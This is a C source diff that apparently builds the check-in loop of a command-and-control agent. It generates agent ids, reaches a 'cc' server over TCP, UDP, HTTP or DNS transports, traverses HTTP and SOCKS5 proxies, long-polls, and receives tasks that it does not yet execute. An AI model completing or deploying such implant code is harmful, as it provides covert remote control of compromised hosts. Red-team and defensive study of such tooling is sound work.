@@ -5,44 +5,372 @@
 #include <time.h>
 #include <string.h>
 
+#include <mbedtls/ctr_drbg.h>
+#include <mbedtls/entropy.h>
+
+#include "checkin.h"
 #include "debug.h"
 #include "dns.h"
+#include "path.h"
+#include "pool.h"
+#include "proxy.h"
+#include "sched.h"
+#include "socks.h"
+#include "trace.h"
 #include "util.h"
 
+/* Seconds between two check-ins */
+#define CHECKIN_INTERVAL 5
+/* Milliseconds between two long-polls, the cc holds them open meanwhile */
+#define CHECKIN_REPOLL 100
+
 struct options {
     const char *program; /* program name */
-    const char *socks5;  /* socks5 proxy */
-    const char *proxy;   /* http proxy */
-    const char *user;
+    const char *socks5;  /* socks5 proxy, "host:port" */
+    const char *proxy;   /* http proxy, "host:port" */
+    const char *user;    /* credentials of the proxies */
     const char *passwd;
     const char *proto;
+    const char *nameservers; /* "address[:port],..." instead of the system's */
+    int hold; /* seconds the cc may hold a check-in open */
+    const char *id; /* agent id, from the system entropy by default */
+    const char *paths[PATH_TABLE_SIZE]; /* "transport://host:port" of the cc */
+    int npaths;
 };
 
 struct options opts = {
     .socks5 = NULL,
     .user = NULL,
     .passwd = NULL,
+    .nameservers = NULL,
+    .hold = CHECKIN_HOLD,
+    .id = NULL,
+    .npaths = 0,
 };
 
+static path_table table;
+static struct pool *pool;
+static sched_context sched;
+static sched_timer checkin_timer;
+static sched_timer race_timer;
+static char *frame; /* PATH_FRAME_SIZE bytes */
+
 static void readopts(int argc, char *argv[]) {
     opts.program = xbasename(*argv);
     argc--;
     argv++;
+
+    for (; argc > 1; argc -= 2, argv += 2) {
+        if (strcmp(argv[0], "-w") == 0) {
+            opts.hold = atoi(argv[1]);
+        } else if (strcmp(argv[0], "-n") == 0) {
+            opts.nameservers = argv[1];
+        } else if (strcmp(argv[0], "-i") == 0) {
+            opts.id = argv[1];
+        } else if (strcmp(argv[0], "-c") == 0) {
+            if (opts.npaths < PATH_TABLE_SIZE) {
+                opts.paths[opts.npaths++] = argv[1];
+            }
+        } else if (strcmp(argv[0], "-s") == 0) {
+            opts.socks5 = argv[1];
+        } else if (strcmp(argv[0], "-x") == 0) {
+            opts.proxy = argv[1];
+        } else if (strcmp(argv[0], "-u") == 0) {
+            opts.user = argv[1];
+        } else if (strcmp(argv[0], "-p") == 0) {
+            opts.passwd = argv[1];
+        }
+    }
 }
 
 /* static void usage(void) {} */
 
+/* "host:port" into host, of size bytes, and port */
+static int splithostport(const char *str, char *host, size_t size,
+                         uint16_t *port) {
+    const char *ptr = strrchr(str, ':');
+
+    if (!ptr || ptr == str || (size_t)(ptr - str) >= size ||
+        atoi(ptr + 1) <= 0 || atoi(ptr + 1) > 65535) {
+        return -1;
+    }
+
+    memcpy(host, str, (size_t)(ptr - str));
+    host[ptr - str] = '\0';
+    *port = (uint16_t)atoi(ptr + 1);
+
+    return 0;
+}
+
+/*
+ * "tcp://host:port", the transport is one of tcp, udp, http and dns. TCP
+ * and HTTP paths are also tried through the proxies given, the race keeps
+ * the routes that work.
+ */
+static int addpath(const char *spec) {
+    static const char *transports[] = {"tcp", "udp", "http", "dns"};
+    char host[256];
+    const char *ptr;
+    uint16_t port;
+    size_t i, n;
+    int transport;
+
+    ptr = strstr(spec, "://");
+    if (!ptr) {
+        return -1;
+    }
+
+    for (i = 0; i < sizeof(transports) / sizeof(*transports); i++) {
+        n = strlen(transports[i]);
+        if ((size_t)(ptr - spec) == n &&
+            strncmp(spec, transports[i], n) == 0) {
+            break;
+        }
+    }
+    if (i == sizeof(transports) / sizeof(*transports)) {
+        return -1;
+    }
+
+    if (splithostport(ptr + 3, host, sizeof(host), &port) == -1) {
+        return -1;
+    }
+
+    /* PATH_TCP, PATH_UDP, PATH_HTTP and PATH_DNS are in the same order */
+    transport = (int)i;
+    if (path_add(&table, transport, PATH_DIRECT, host, port) == -1) {
+        return -1;
+    }
+    if (transport != PATH_TCP && transport != PATH_HTTP) {
+        return 0;
+    }
+    if (table.proxy &&
+        path_add(&table, transport, PATH_HTTP_PROXY, host, port) == -1) {
+        return -1;
+    }
+    if (table.socks5 &&
+        path_add(&table, transport, PATH_SOCKS5, host, port) == -1) {
+        return -1;
+    }
+
+    return 0;
+}
+
+/* Proxies of the -x and -s options, with the -u and -p credentials */
+static int addproxies(void) {
+    struct socks5_client *socks5;
+    struct http_proxy *proxy;
+    char host[256];
+    uint16_t port;
+
+    /* "user:passwd" of the proxy authorizations is at most 255 bytes */
+    if (opts.user && opts.passwd &&
+        strlen(opts.user) + strlen(opts.passwd) >= 255) {
+        return -1;
+    }
+
+    if (opts.proxy) {
+        if (splithostport(opts.proxy, host, sizeof(host), &port) == -1) {
+            return -1;
+        }
+        proxy = http_proxy_new(host, port, opts.user, opts.passwd);
+        if (!proxy) {
+            return -1;
+        }
+        path_set_proxy(&table, proxy);
+    }
+
+    if (opts.socks5) {
+        if (splithostport(opts.socks5, host, sizeof(host), &port) == -1) {
+            return -1;
+        }
+        socks5 = socks5_client_new(host, port, opts.user, opts.passwd);
+        if (!socks5) {
+            return -1;
+        }
+        path_set_socks5(&table, socks5);
+    }
+
+    return 0;
+}
+
+/*
+ * "agent-" and 16 hex digits drawn from the system entropy, two agents
+ * started at once do not share an id.
+ */
+static int newid(char *id, size_t size) {
+    static const char pers[] = "agent id";
+    mbedtls_entropy_context entropy;
+    mbedtls_ctr_drbg_context drbg;
+    unsigned char bytes[8];
+    size_t i;
+    int ret;
+
+    ASSERT(size >= sizeof("agent-") + 2 * sizeof(bytes));
+
+    mbedtls_entropy_init(&entropy);
+    mbedtls_ctr_drbg_init(&drbg);
+
+    ret = mbedtls_ctr_drbg_seed(&drbg, mbedtls_entropy_func, &entropy,
+                                (const unsigned char *)pers, sizeof(pers) - 1);
+    if (ret == 0) {
+        ret = mbedtls_ctr_drbg_random(&drbg, bytes, sizeof(bytes));
+    }
+
+    mbedtls_ctr_drbg_free(&drbg);
+    mbedtls_entropy_free(&entropy);
+
+    if (ret != 0) {
+        DBGF("mbedtls_ctr_drbg error: -0x%04x", (unsigned int)-ret);
+        return -1;
+    }
+
+    memcpy(id, "agent-", sizeof("agent-"));
+    for (i = 0; i < sizeof(bytes); i++) {
+        snprintf(id + sizeof("agent-") - 1 + 2 * i, 3, "%02x", bytes[i]);
+    }
+    return 0;
+}
+
+/*
+ * The agent runs no tasks yet: each task the cc delivered is reported so
+ * that none is lost unnoticed.
+ */
+static void handle_frame(const char *buf, int len, void *arg) {
+    struct checkin_task t;
+    size_t off = 0;
+    int ret;
+
+    (void)arg;
+
+    while ((ret = checkin_next_task(buf, len, &off, &t)) == 1) {
+        TRACE(TRACE_WARN, TRACE_CHECKIN, "task %llu not run: %lu bytes",
+              (unsigned long long)t.id, (unsigned long)t.len);
+    }
+    if (ret == -1) {
+        TRACE(TRACE_WARN, TRACE_CHECKIN, "malformed task frame: %d bytes",
+              len);
+    }
+}
+
+static int checkin_job(void *arg) {
+    uint64_t start = sched_now();
+    int ret, retry_after;
+
+    (void)arg;
+
+    ret = path_checkin_best(&table, frame, PATH_FRAME_SIZE);
+    if (ret == -1) {
+        /* every path failed, rank them again before the next check-in */
+        sched_kick(&sched, &race_timer, 0);
+        return SCHED_FAIL;
+    }
+
+    retry_after = checkin_retry_after(frame, ret);
+    if (retry_after > 0) {
+        return retry_after;
+    }
+
+    handle_frame(frame, ret, NULL);
+
+    /*
+     * Poll again right away over HTTP while the cc holds check-ins, not if
+     * the hold was cut short without work, as by a proxy.
+     */
+    checkin_timer.interval = CHECKIN_INTERVAL * 1000;
+    if (opts.hold > 0 && path_best(&table)->transport == PATH_HTTP &&
+        (ret > 0 || sched_now() - start >= 1000)) {
+        checkin_timer.interval = CHECKIN_REPOLL;
+    }
+    return SCHED_DONE;
+}
+
 int main(int argc, char *argv[]) {
-    struct dns_node *node;
+    char id[32];
+    int i, next;
 
     readopts(argc, argv);
     srand((unsigned int)time(NULL));
+    trace_init();
 
-    node = dns_query_ret("google.com", DNS_A);
+    if (opts.nameservers && dns_set_nameservers(opts.nameservers) == -1) {
+        fprintf(stderr, "%s: invalid nameservers: %s\n", opts.program,
+                opts.nameservers);
+        return 1;
+    }
 
-    for (; node; node = node->next) {
-        DBGF("%s", node->data);
+    if (!opts.id) {
+        if (newid(id, sizeof(id)) == -1) {
+            fprintf(stderr, "%s: no entropy for the agent id, use -i\n",
+                    opts.program);
+            return 1;
+        }
+        opts.id = id;
     }
 
+    path_init(&table, opts.id);
+    path_set_hold(&table, opts.hold);
+    path_set_handler(&table, handle_frame, NULL);
+
+    if (addproxies() == -1) {
+        fprintf(stderr, "%s: invalid proxy\n", opts.program);
+        return 1;
+    }
+
+    for (i = 0; i < opts.npaths; i++) {
+        if (addpath(opts.paths[i]) == -1) {
+            fprintf(stderr, "%s: invalid path: %s\n", opts.program,
+                    opts.paths[i]);
+            return 1;
+        }
+    }
+    if (table.count == 0) {
+        fprintf(stderr, "%s: no path to the cc, -c transport://host:port\n",
+                opts.program);
+        return 1;
+    }
+
+    frame = malloc(PATH_FRAME_SIZE);
+    if (!frame) {
+        DBGERR("malloc error");
+        return 1;
+    }
+
+    /* a worker per core, and per path so that the race probes them at once */
+    pool = pool_new(table.count > pool_cores() ? table.count : 0);
+    if (!pool) {
+        free(frame);
+        return 1;
+    }
+
+    path_set_pool(&table, pool);
+
+    sched_init(&sched);
+    sched_add(&sched, &checkin_timer, CHECKIN_INTERVAL * 1000, checkin_job,
+              NULL);
+    sched_add(&sched, &race_timer, PATH_REPROBE_INTERVAL * 1000, path_job,
+              &table);
+
+    /* rank the paths before the first check-in */
+    path_race(&table);
+
+    /* wait for the next check-in on the pool, completions run meanwhile */
+    while ((next = sched_next(&sched)) != -1) {
+        if (pool_wait(pool, next) > 0) {
+            pool_complete(pool);
+        }
+        if (sched_next(&sched) == 0) {
+            sched_run(&sched);
+        }
+        trace_poll(stderr);
+    }
+
+    pool_free(pool);
+    free(frame);
+    if (table.proxy) {
+        http_proxy_free(table.proxy);
+    }
+    if (table.socks5) {
+        socks5_client_free(table.socks5);
+    }
     return 0;
 }